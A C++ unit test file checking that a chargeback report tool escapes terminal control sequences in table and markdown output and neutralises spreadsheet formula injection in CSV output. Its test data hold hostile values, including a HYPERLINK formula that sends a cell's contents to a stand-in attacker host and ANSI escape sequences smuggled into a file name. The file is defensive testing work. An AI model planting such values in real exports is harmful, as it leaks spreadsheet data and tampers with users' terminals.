// A chargeback of team tags that a spreadsheet or a terminal would run (tests/data/chargeback/
// usage_hostile.csv): CSV and FOCUS neutralise them unless raw, table and md escape them.
#include <gtest/gtest.h>

#include "chargeback/chargeback_report.h"
#include "chargeback/usage_reader.h"
#include "io/atomic_file.h"

namespace dbcost {
namespace {

const std::string kData = std::string(DBCOST_SOURCE_DIR) + "/tests/data/chargeback/";

Chargeback hostile_chargeback() {
  static const PriceBook book = PriceBook::load(kData + "list_prices.csv");  // the ledger points into it
  // The source name is shown in the summary lines: it carries ESC and a newline too.
  return allocate_chargeback(
      read_usage_text(read_file(kData + "usage_hostile.csv"), "usage\x1b[2J\n.csv", book, UsageOptions{}), {});
}

TEST(ChargebackReportEscapeTest, TableAndMarkdownHoldNoControlCharacters) {
  const Chargeback cb = hostile_chargeback();
  for (const char* format : {"table", "md"}) {
    const std::string out = render_chargeback(cb, format, "team");
    EXPECT_EQ(out.find('\x1b'), std::string::npos) << format;
    EXPECT_EQ(out.find('\x01'), std::string::npos) << format;
    EXPECT_EQ(out.find("\xc2\x9b"), std::string::npos) << format;
    EXPECT_EQ(out.find('\t'), std::string::npos) << format;
    EXPECT_NE(out.find("usage: usage\\x1b[2J\\n.csv (12 records"), std::string::npos) << format;
    EXPECT_NE(out.find("\\x1b[31mred\\x1b[0m"), std::string::npos) << format;
    EXPECT_NE(out.find("line\\nbreak"), std::string::npos) << format;
    EXPECT_NE(out.find("\xc3\xa9quipe \xe6\x95\xb0\xe6\x8d\xae"), std::string::npos) << format;  // équipe 数据
  }
  EXPECT_NE(render_chargeback(cb, "md", "team").find("| ctrl\\x01a\\|b |"), std::string::npos);
}

TEST(ChargebackReportEscapeTest, CsvAndFocusNeutraliseFormulasUnlessRaw) {
  const Chargeback cb = hostile_chargeback();
  const RenderOptions raw{.raw_csv = true};
  for (const char* format : {"csv", "focus"}) {
    const std::string out = render_chargeback(cb, format, "team");
    EXPECT_NE(out.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","), std::string::npos);
    EXPECT_NE(out.find(",\"'@SUM(1+9)\","), std::string::npos) << format;
    EXPECT_NE(out.find(",\"'-2+3\","), std::string::npos) << format;
    EXPECT_NE(out.find(",\"'\t=1+2\","), std::string::npos) << format;
    EXPECT_NE(out.find(",-1.65,"), std::string::npos) << format;  // a negative amount stays a number
    const std::string raw_out = render_chargeback(cb, format, "team", raw);
    EXPECT_EQ(raw_out.find("\"'"), std::string::npos) << format;
    EXPECT_NE(raw_out.find(",@SUM(1+9),"), std::string::npos) << format;
  }
}

}  // namespace
}  // namespace dbcost
